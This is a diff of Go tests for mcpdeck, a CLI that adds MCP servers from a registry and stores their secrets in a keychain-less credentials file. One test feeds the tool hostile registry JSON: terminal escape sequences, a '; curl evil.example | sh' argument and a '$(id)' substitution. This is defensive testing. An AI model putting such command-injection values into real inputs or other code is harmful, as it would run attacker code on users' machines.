@@ -1,89 +1,11 @@
 package cli
 
 import (
-	"bytes"
-	"context"
-	"encoding/json"
-	"errors"
-	"net/http/httptest"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
-
-	"github.com/zalando/go-keyring"
-
-	"github.com/mcpdeck/mcpdeck/testdata/fakeregistry"
 )
-
-// registryMachine is a cliEnv whose runs happen in this process (run) on a
-// machine without a keychain, so secrets go to the 0600 credentials file
-// of the test's config dir and never to a real keychain; the registry is
-// the fake one, serving extra documents too. Tests using it cannot be
-// parallel (environment, working directory, keyring).
-type registryMachine struct {
-	*cliEnv
-	all strings.Builder // every byte printed, to look for secrets
-}
-
-func newRegistryMachine(t *testing.T, extra ...string) *registryMachine {
-	keyring.MockInitWithError(errors.New("org.freedesktop.secrets was not provided by any .service files"))
-	t.Cleanup(keyring.MockInit)
-	srv := httptest.NewServer(fakeregistry.Handler(extra...))
-	t.Cleanup(srv.Close)
-	e := newCLIEnv(t)
-	for k, v := range map[string]string{
-		"HOME": e.home, "XDG_CONFIG_HOME": e.config, "XDG_CACHE_HOME": filepath.Join(e.home, ".cache"),
-		"MCPDECK_MANAGED_DIR": e.managed, "MCPDECK_REGISTRY_URL": srv.URL, "ACCESSIBLE": "",
-	} {
-		t.Setenv(k, v)
-	}
-	t.Chdir(e.proj)
-	return &registryMachine{cliEnv: e}
-}
-
-// mcpdeck runs the command line in this process.
-func (m *registryMachine) mcpdeck(args ...string) result {
-	var out, errb bytes.Buffer
-	code := run(context.Background(), args, strings.NewReader(""), &out, &errb)
-	m.all.WriteString(out.String() + errb.String())
-	return result{stdout: out.String(), stderr: errb.String(), code: code}
-}
-
-func (m *registryMachine) ok(args ...string) result {
-	m.t.Helper()
-	r := m.mcpdeck(args...)
-	if r.code != 0 {
-		m.t.Fatalf("mcpdeck %s: %s", strings.Join(args, " "), r)
-	}
-	return r
-}
-
-// credentials is the keychain-less store's file.
-func (m *registryMachine) credentials() map[string]string {
-	m.t.Helper()
-	out := map[string]string{}
-	b, err := os.ReadFile(filepath.Join(m.config, "mcpdeck", "credentials.json"))
-	if errors.Is(err, os.ErrNotExist) {
-		return out
-	}
-	if err != nil || json.Unmarshal(b, &out) != nil {
-		m.t.Fatalf("credentials.json: %v %s", err, b)
-	}
-	return out
-}
-
-// definition is one server's entry in a scope's file.
-func (m *registryMachine) definition(scope, name string) map[string]any {
-	m.t.Helper()
-	var doc struct {
-		MCPServers map[string]map[string]any `json:"mcpServers"`
-	}
-	if err := json.Unmarshal([]byte(m.read(m.scopeFile(scope))), &doc); err != nil {
-		m.t.Fatal(err)
-	}
-	return doc.MCPServers[name]
-}
 
 // TestRegistryAddWritesEachKind: a remote, an npm, a pypi and an oci
 // package each become the pinned definition that runs them; secrets land
@@ -92,7 +14,7 @@ func (m *registryMachine) definition(scope, name string) map[string]any {
 // literal secret; what is missing off a terminal is a usage error naming
 // the flag; a version the registry lacks is not found.
 func TestRegistryAddWritesEachKind(t *testing.T) {
-	m := newRegistryMachine(t)
+	m := newRegistryMachine(t, run)
 	secretGH, secretDocker, secretWeather := "Bearer ghp_remote0123456789", "ghp_docker0123456789", "weather-key-0123456789"
 
 	r := m.ok("mcp", "add", "-s", "user", "--registry", "io.github.github/github-mcp-server", "-H", "Authorization: "+secretGH)
@@ -194,7 +116,7 @@ func toStrings(v any) []string {
 // secret, gets nothing even when approved; mcp remove deletes the secret.
 func TestRegistryAddThenCallUsesTheStoredSecret(t *testing.T) {
 	npmDir := needNpxEverything(t)
-	m := newRegistryMachine(t)
+	m := newRegistryMachine(t, run)
 	// npx finds the package installed where the user server starts: home.
 	if err := os.Symlink(npmDir, filepath.Join(m.home, "node_modules")); err != nil {
 		t.Fatal(err)
@@ -259,7 +181,7 @@ func TestRegistryAddThenCallUsesTheStoredSecret(t *testing.T) {
 // argument is written as one argument.
 func TestRegistryAddHostileServerJSON(t *testing.T) {
 	huge := strings.Repeat("very long description \u202e ", 100_000) // ~2.3 MB, under the 4 MB bound
-	m := newRegistryMachine(t,
+	m := newRegistryMachine(t, run,
 		`{"name":"io.example/escapes","title":"\u001b]0;pwned\u0007Title\u001b[2J","description":"`+huge+`","version":"1.0.0","packages":[{"registryType":"npm","identifier":"escapes","version":"1.0.0","transport":{"type":"stdio"},
 			"packageArguments":[{"type":"positional","value":"; curl evil.example | sh"},{"type":"named","name":"--x","value":"$(id)"}],
 			"environmentVariables":[{"name":"MODE","description":"\u001b[31mred\u001b[0m","default":"a"}]}]}`,
@@ -299,7 +221,7 @@ func equalStrings(a, b []string) bool { return strings.Join(a, "\x00") == string
 // turns the reference into a problem that says how to store it again; the
 // project scope cannot use the store at all.
 func TestMCPSecretStoresAndDeletes(t *testing.T) {
-	m := newRegistryMachine(t)
+	m := newRegistryMachine(t, run)
 	m.write(m.scopeFile("user"), `{"mcpServers": {"gh": {"command": "gh-mcp", "env": {"GH_TOKEN": "${secret:GH_TOKEN}"}}}}`)
 	r := m.ok("mcp", "get", "gh", "--no-connect")
 	if !strings.Contains(r.stdout, "${secret:GH_TOKEN} is not in mcpdeck's secret store; store it with: mcpdeck mcp secret gh GH_TOKEN -s user") {
@@ -334,7 +256,7 @@ func TestMCPSecretStoresAndDeletes(t *testing.T) {
 // reads that one server's secrets (and says the read failed), and a
 // command that connects one server reads only its secrets.
 func TestOnlyCommandsThatNeedSecretsReadTheStore(t *testing.T) {
-	m := newRegistryMachine(t)
+	m := newRegistryMachine(t, run)
 	m.write(m.scopeFile("user"), `{"mcpServers": {
 		"gh": {"command": "gh-mcp", "env": {"GH_TOKEN": "${secret:GH_TOKEN}"}},
 		"db": {"command": "db-mcp", "env": {"DB_PASSWORD": "${secret:PASSWORD}"}}}}`)
